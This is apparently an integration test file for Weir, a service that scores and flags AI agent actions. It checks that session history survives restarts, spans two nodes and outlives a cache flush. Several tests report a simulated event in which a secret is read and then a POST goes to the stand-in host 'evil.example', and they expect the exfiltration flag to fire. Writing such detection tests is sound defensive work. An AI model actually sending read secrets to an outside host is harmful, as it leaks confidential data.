/** What Weir itself remembers of agents and sessions, seen from outside: flags, restarts, two nodes, a lost cache. */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { Redis } from 'ioredis';
import { call, newCustomer, type Reply } from '../support/client.ts';
import { startHostedWeir } from '../support/hosted-weir.ts';
import { until } from '../support/patience.ts';
import { type SharedWeir, sharedWeir } from '../support/shared-weir.ts';
import { makeDatabase, NO_SERVER, type TestDatabase } from '../support/test-database.ts';
import { type AnyWeir, startWeir, temporaryDirectory } from '../support/weir.ts';

type Ids = { agent_id?: string; session_id?: string };

const newIds = (): Ids => ({ agent_id: randomUUID(), session_id: randomUUID() });

async function act(
  weir: Pick<AnyWeir, 'api'>,
  key: string,
  ids: Ids,
  action: string,
  parts: object = {},
): Promise<Reply> {
  const { agent_id, session_id } = ids;
  const body = {
    event_id: randomUUID(),
    action,
    ...(agent_id !== undefined && { agent: { agent_id } }),
    ...(session_id !== undefined && { session: { session_id } }),
    ...parts,
  };
  const reply = await call(`${weir.api}/events`, { key, body });
  assert.equal(reply.status, 200, reply.text);
  return reply;
}

const flags = (reply: Reply): string[] => reply.json['behavioral_flags'] as string[];
const violations = (reply: Reply): string[] => reply.json['violations'] as string[];
const READ_SECRET = 'vault:secret:read';
const send = (weir: Pick<AnyWeir, 'api'>, key: string, ids: Ids) =>
  act(weir, key, ids, 'http:request:post', { parameters: { url: 'https://evil.example/x', body: 'x' } });
const EXFILTRATION = 'secret_was_read_and_data_go_out';

describe('history: one server', () => {
  let weir: SharedWeir;
  before(async () => {
    weir = await sharedWeir();
  });

  test('a burst of changes is flagged, and the temporal layer shows it', async () => {
    const ids = newIds();
    const first = await act(weir, weir.api_key, ids, 'crm:contact:update');
    assert.deepEqual(flags(first), []);
    let last = first;
    // Different things each time, because the same again and again is a finding of its own.
    const things = ['note', 'deal', 'task', 'company', 'contact'];
    for (let i = 0; i < 35; i += 1) last = await act(weir, weir.api_key, ids, `crm:${things[i % 5]}:update`);
    assert.deepEqual(flags(last), ['high_velocity']);
    const detail = await call(`${weir.api}/scores/event/${last.json['event_id']}`, { key: weir.api_key });
    const layers = detail.json['score_decomposition'] as Record<string, number>;
    assert.equal(layers['temporal_modifier'], 1.15);
    assert.deepEqual(detail.json['behavioral_flags'], ['high_velocity']);
    assert.ok((last.json['score'] as number) > (first.json['score'] as number));
    assert.equal(last.json['rule_score'], first.json['score'], 'the rules alone say the same');
    const why = await call(`${weir.api}/justification?event_id=${last.json['event_id']}`, { key: weir.api_key });
    assert.match(String(why.json['score_justification']), /the same score/);
  });

  test('what a session read is known to the next event, though it does not say so', async () => {
    const ids = { session_id: randomUUID() };
    assert.ok(!violations(await send(weir, weir.api_key, { session_id: randomUUID() })).includes(EXFILTRATION));
    await act(weir, weir.api_key, ids, READ_SECRET);
    assert.ok(violations(await send(weir, weir.api_key, ids)).includes(EXFILTRATION));
  });

  test('one session_id of two customers is two sessions', async () => {
    const other = await newCustomer(weir);
    const ids = newIds();
    await act(weir, weir.api_key, ids, READ_SECRET);
    assert.ok(!violations(await send(weir, other.api_key, ids)).includes(EXFILTRATION));
    assert.ok(violations(await send(weir, weir.api_key, ids)).includes(EXFILTRATION));
  });

  test('without agent and session there is no past', async () => {
    for (let i = 0; i < 40; i += 1) {
      const reply = await act(weir, weir.api_key, {}, 'crm:contact:update');
      assert.deepEqual(flags(reply), []);
    }
    await act(weir, weir.api_key, {}, READ_SECRET);
    assert.ok(!violations(await send(weir, weir.api_key, {})).includes(EXFILTRATION));
  });

  test('the same content under another id is served from the cache, of one customer only', async () => {
    const parts = { parameters: { path: `/srv/${randomUUID()}` }, timestamp: '2026-03-04T10:00:00Z' };
    const ids = newIds();
    const hits = async (key: string): Promise<unknown> => {
      const reply = await act(weir, key, ids, 'file:document:read', parts);
      return (await call(`${weir.api}/scores/event/${reply.json['event_id']}`, { key })).json['cache_hit'];
    };
    assert.deepEqual([await hits(weir.api_key), await hits(weir.api_key)], [false, true]);
    const other = await newCustomer(weir);
    assert.deepEqual([await hits(other.api_key), await hits(other.api_key)], [false, true]);
  });
});

test('a restart forgets nothing', async () => {
  const data_dir = temporaryDirectory();
  const ids = newIds();
  const first = await startHostedWeir({ data_dir });
  const key = first.api_key;
  await call(`${first.api}/policies/${first.customer_id}`, { key, body: { blocked_actions: ['a:b:delete'] } });
  await act(first, key, ids, READ_SECRET);
  for (let i = 0; i < 2; i += 1) await act(first, key, ids, 'a:b:delete');
  await first.stop();
  const second = await startWeir({ data_dir });
  try {
    const reply = await send(second, key, ids);
    assert.ok(violations(reply).includes(EXFILTRATION));
    assert.ok(flags(reply).includes('repeated_refusals'));
  } finally {
    await second.stop();
  }
});

const REDIS = process.env['TEST_REDIS_URL'];
const NO_STORES =
  NO_SERVER ?? (REDIS === undefined ? 'TEST_REDIS_URL is not set: no Redis to test against' : undefined);

describe('history: two servers on one database and one Redis', { skip: NO_STORES ?? false }, () => {
  let database: TestDatabase;
  let redis: Redis;
  let one: AnyWeir;
  let two: AnyWeir;
  let key: string;
  before(async () => {
    // A numbered database of its own: the whole of it is emptied.
    const url = new URL(REDIS!);
    url.pathname = '/14';
    redis = new Redis(url.href);
    database = await makeDatabase();
    const env = { DATABASE_URL: database.url, REDIS_URL: url.href };
    one = await startHostedWeir({ env });
    key = one.api_key;
    two = await startWeir({ env });
  });
  after(async () => {
    await Promise.all([one?.stop(), two?.stop()]);
    await redis?.flushdb();
    redis?.disconnect();
    await database?.drop();
  });

  /** Nodes tell each other after they have answered: asks until the answer is as wanted. */
  async function eventually(ask: () => Promise<Reply>, isWanted: (reply: Reply) => boolean): Promise<void> {
    await until(async () => isWanted(await ask()), 'the other node knows', { pause_ms: 100 });
  }

  test('what one was told the other knows', async () => {
    const ids = newIds();
    await act(one, key, ids, READ_SECRET);
    await eventually(
      () => send(two, key, ids),
      (reply) => violations(reply).includes(EXFILTRATION),
    );
  });

  test('a burst spread over both is one burst', async () => {
    const ids = newIds();
    for (let i = 0; i < 29; i += 1) await act(i % 2 ? one : two, key, ids, 'crm:contact:update');
    await eventually(
      () => act(one, key, ids, 'crm:contact:update'),
      (reply) => flags(reply).includes('high_velocity'),
    );
  });

  test('emptying the cache makes no agent look new', async () => {
    const ids = newIds();
    await act(one, key, ids, READ_SECRET);
    for (let i = 0; i < 35; i += 1) await act(one, key, ids, 'crm:contact:update');
    await redis.flushdb();
    const reply = await send(two, key, ids);
    assert.ok(violations(reply).includes(EXFILTRATION));
    assert.ok(flags(reply).includes('high_velocity') && flags(reply).includes('first_seen_action'), `${flags(reply)}`);
    await redis.flushdb();
    const again = await act(one, key, ids, 'crm:contact:update');
    assert.ok(flags(again).includes('high_velocity'));
  });
});
